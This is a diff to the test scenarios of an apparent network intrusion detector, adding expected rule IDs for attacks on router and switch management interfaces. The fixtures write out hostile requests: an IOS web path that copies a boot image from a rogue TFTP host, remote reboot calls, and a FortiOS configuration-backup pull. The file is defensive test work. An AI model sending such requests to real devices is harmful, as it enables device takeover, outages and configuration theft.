@@ -10,6 +10,8 @@ from bootwarden.traffic import http
 from bootwarden.traffic.wire import Wire
 
 EVIL = f"tftp://{ROGUE}/evil.bin"
+EAPI, IOS, WSMA, NXAPI, FORTIOS, JUNOS, ROUTEROS = range(1542007410, 1542007424, 2)
+"""Sids of the rules about orders by each interface; those about reloads have the next."""
 BOOT = Notice("Boot_Command", DEVICE, ROGUE, "evil.bin")
 
 
@@ -18,7 +20,7 @@ def posted(value: object) -> bytes:
     return json.dumps(value).encode()
 
 
-@scenario("BW07", "malicious", site=HQ, with_site=Expect((BOOT,)))
+@scenario("BW07", "malicious", raises=[("BW07", IOS, ATTACKER, DEVICE)], site=HQ, with_site=Expect((BOOT,)))
 def bw07_web_ios_copy(wire: Wire) -> None:
     """IOS's browser interface: the words of a command as parts of the path."""
     path = f"/level/15/exec/-/copy/tftp:%2f%2f{ROGUE}%2fevil.bin/flash:/CR"
@@ -28,6 +30,7 @@ def bw07_web_ios_copy(wire: Wire) -> None:
 @scenario(
     "BW07",
     "malicious",
+    raises=[("BW07", IOS, ATTACKER, DEVICE)] * 2,
     site=HQ,
     with_site=Expect((Notice("Boot_Command", DEVICE, None, "startup-config"), BOOT)),
 )
@@ -41,6 +44,10 @@ def bw07_web_ios_encoded(wire: Wire) -> None:
 @scenario(
     "BW07",
     "malicious",
+    raises=[
+        ("BW07", sid, ATTACKER, f"10.0.1.{last}")
+        for last, sid in enumerate((EAPI, EAPI, NXAPI, NXAPI, NXAPI, WSMA, ROUTEROS), 1)
+    ],
     site=HQ,
     with_site=Expect(
         tuple(Notice("Boot_Command", f"10.0.1.{last}", ROGUE, "evil.bin") for last in (1, 2, 3, 4, 5, 6, 7))
@@ -72,6 +79,7 @@ def bw07_web_apis(wire: Wire) -> None:
 @scenario(
     "BW05",
     "malicious",
+    raises=[("BW05", sid + 1, ATTACKER, f"10.0.1.{last}") for last, sid in enumerate((IOS, EAPI, ROUTEROS, JUNOS), 1)],
     site=HQ,
     with_site=Expect(tuple(Notice("Remote_Reload", f"10.0.1.{last}") for last in (1, 2, 3, 4))),
 )
@@ -84,14 +92,27 @@ def bw05_web_reloads(wire: Wire) -> None:
     http.order(wire, ATTACKER, "10.0.1.4", "/rpc/request-reboot", b"", kind="application/xml")
 
 
-@scenario("BW18", "malicious", site=HQ, with_site=Expect((Notice("Config_Exfiltration", DEVICE),)))
+@scenario(
+    "BW18",
+    "malicious",
+    raises=[("BW18", FORTIOS, ATTACKER, DEVICE)],
+    site=HQ,
+    with_site=Expect((Notice("Config_Exfiltration", DEVICE),)),
+)
 def bw18_web_fortios_backup(wire: Wire) -> None:
     """FortiOS hands its configuration to whoever has a session."""
     path = "/api/v2/monitor/system/config/backup?scope=global"
     http.order(wire, ATTACKER, DEVICE, path, answer=b"#config-version=FGT60E-7.2.5\nconfig system global\nend\n")
 
 
-@scenario("BW07", "benign", site=HQ, with_site=Expect())
+@scenario(
+    "BW07",
+    "benign",
+    raises=[("BW07", IOS, ADMIN, DEVICE)],
+    raises_with_site=[],
+    site=HQ,
+    with_site=Expect(),
+)
 def bw07_web_daily_work(wire: Wire) -> None:
     """Administrators ask what there is, fetch what is approved, and read pages that quote such requests."""
     http.order(wire, ADMIN, DEVICE, "/level/15/exec/-/show/running-config/CR")
